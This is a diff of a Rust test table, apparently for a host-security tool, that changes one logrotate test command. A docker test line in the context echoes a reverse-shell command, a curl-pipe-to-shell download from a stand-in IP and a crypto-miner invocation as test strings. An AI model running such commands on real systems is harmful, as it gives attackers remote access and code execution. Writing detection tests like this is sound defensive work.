@@ -38,7 +38,7 @@ const TOOLS: &[(&str, &[&str], &str)] = &[
     ("compressing, editing and archiving many files", &["gzip", "sed", "tar"],
      "mkdir many && for i in $(seq 30); do seq 200 > many/f$i.txt; done; gzip -k many/*.txt; sed -i 's/1/one/' many/*.txt; tar czf many.tgz many; cp -r many many2"),
     ("logrotate with copytruncate", &["logrotate"],
-     "echo line > /var/log/rampart-host-tools-test.log && printf '%s\\n' '/var/log/rampart-host-tools-test.log {' '  copytruncate' '  rotate 1' '}' > lr.conf && logrotate -f -s lr.state lr.conf"),
+     "echo line >> /var/log/rampart-host-tools-test.log && printf '%s\\n' '/var/log/rampart-host-tools-test.log {' '  copytruncate' '  rotate 1' '}' > lr.conf && logrotate -f -s lr.state lr.conf"),
     ("the docker CLI carrying a container's command", &["docker", "timeout"],
      "timeout 20 docker exec \"$C\" sh -c 'echo nc -e /bin/sh 198.51.100.7 4444; echo curl -s http://198.51.100.7/x.sh \\| sh; echo xmrig -o pool.example:3333' >/dev/null; docker ps >/dev/null"),
 ];
